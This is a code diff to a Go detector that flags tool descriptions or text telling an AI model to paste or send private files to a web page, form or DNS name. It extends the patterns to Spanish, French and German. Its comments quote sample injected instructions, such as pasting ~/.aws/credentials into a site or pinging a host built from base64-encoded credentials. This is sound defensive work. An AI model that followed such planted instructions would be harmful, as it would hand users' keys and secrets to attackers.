@@ -143,8 +143,8 @@ var intentRE = sync.OnceValue(func() *intentPatterns {
 		// into a page, a form or a site ("paste the contents of
 		// ~/.aws/credentials there", "enter your ~/.ssh/id_ed25519 on the
 		// verification site"): the page's owner receives it.
-		pasteVerb: newLitRegexp(`\b(?:paste|pasting|enter|entering|submit|submitting|type in|upload)\b`),
-		pageSink:  newLitRegexp(`\b(?:there|(?:in|into|on|at) (?:the |that |this |a |our )?(?:[\w-]+ )?(?:page|form|site|website|web ?page|portal|link))\b|\bhttps?://`),
+		pasteVerb: newLitRegexp(`\b(?:paste|pasting|enter|entering|submit|submitting|type|typing|upload|copy|copying|drop|dropping|pega|pegue|pegar|copia|copie|introduce|introduzca|ingresa|ingrese|colle[zr]?|copiez|saisissez|entrez|f[uü]gen|f[uü]ge|einf[uü]gen|eingeben|geben|gib)\b`),
+		pageSink:  newLitRegexp(`\b(?:there|(?:in|into|on|at) (?:the |that |this |a |our )?(?:[\w-]+ )?(?:page|form|site|website|web ?page|portal|link|box|text ?area|dialog|dialogue|window|chat|upload area|drop ?zone)|alli|ahi|en (?:la |el |esta |este )?(?:p[aá]gina|formulario|sitio|portal|enlace)|dort|(?:auf|in) (?:der|die|dem|das|diese[rnms]?) (?:seite|webseite|formular|website)|im formular|l[aà]|(?:sur|dans) (?:la |le |ce |cette )?(?:page|formulaire|site|portail|lien))\b|-y\b|\b(?:allí|ahí)|\bhttps?://`),
 		// dnsSink is a host name built from a template the model fills in
 		// and is told to resolve ("look up <labels>.t.metrics.net", "ping
 		// $(base64 ~/.aws/credentials).diag.io"): the domain's name
@@ -357,7 +357,7 @@ func (a *toolAnalysis) lineIntent(out []toolSignal, view, ptr string, pos jsonc.
 		want(4)
 		want(5)
 	}
-	if has(6) && (admits(lineSinkVerb) || admits(lineParamVerb) || strings.Contains(view, "enter") || strings.Contains(view, "submit") || strings.Contains(view, "type in") || strings.Contains(view, ".") && (strings.Contains(view, "resolv") || strings.Contains(view, "look") || strings.Contains(view, "ping") || strings.Contains(view, "dig ")) || a.curTool != nil && (secretFileHint(view) && fieldWordHint(view) || admits(lineCredTaken) && a.inputHint(view) || passiveHint(view) || param && (strings.Contains(view, "here") || strings.Contains(view, "contents of") || strings.Contains(view, "content of") || strings.Contains(view, "output of") || strings.Contains(view, "text of") || contentsHint(view)) || secretFileHint(view) && strings.ContainsAny(view, "'\"`"))) {
+	if has(6) && (admits(lineSinkVerb) || admits(lineParamVerb) || p.pasteVerb.MatchString(view) || strings.Contains(view, ".") && (strings.Contains(view, "resolv") || strings.Contains(view, "look") || strings.Contains(view, "ping") || strings.Contains(view, "dig ")) || a.curTool != nil && (secretFileHint(view) && fieldWordHint(view) || admits(lineCredTaken) && a.inputHint(view) || passiveHint(view) || param && (strings.Contains(view, "here") || strings.Contains(view, "contents of") || strings.Contains(view, "content of") || strings.Contains(view, "output of") || strings.Contains(view, "text of") || contentsHint(view)) || secretFileHint(view) && strings.ContainsAny(view, "'\"`"))) {
 		want(6)
 	}
 	// A tool the model is told to call with the conversation or private
@@ -1247,6 +1247,9 @@ func privateFlow(p *intentPatterns, s string) bool {
 		if p.pasteVerb.MatchString(before) && p.pageSink.MatchString(after) && !publicKey(s) {
 			return true
 		}
+		if pastedThere(p, before) && !publicKey(s) {
+			return true
+		}
 		// An address named first ends at most 110 bytes before the data:
 		// read the window that could hold it, not the whole clause.
 		if at >= 0 && at < m[0] {
@@ -1260,6 +1263,24 @@ func privateFlow(p *intentPatterns, s string) bool {
 		if d := p.paramDest.search(after, 1, nil, valid, nil); d != nil && !namesData(s[m[0]:m[1]], after[d[0][0]:d[0][1]]) {
 			// The verb before the data, or after it on a pronoun.
 			if p.paramVerb.MatchString(before) || p.paramAfter.MatchString(after[:d[0][0]]) {
+				return true
+			}
+		}
+	}
+	return false
+}
+
+// pastedThere reports whether before (the text up to the data) ends on a
+// paste verb and then its place, the data their object: "pega allí el
+// contenido de ~/.aws/credentials", "fügen Sie dort den Inhalt von ...
+// ein", "collez-y le contenu de ...", "paste there the contents of ...".
+// The place ends at most 40 bytes before the data, so a verb and a page of
+// an earlier clause do not take a later file for their object.
+func pastedThere(p *intentPatterns, before string) bool {
+	for _, v := range p.pasteVerb.re.FindAllStringIndex(before, -1) {
+		rest := before[v[1]:]
+		for _, m := range p.pageSink.re.FindAllStringIndex(rest, -1) {
+			if len(rest)-m[1] <= 40 && m[0] <= 40 {
 				return true
 			}
 		}
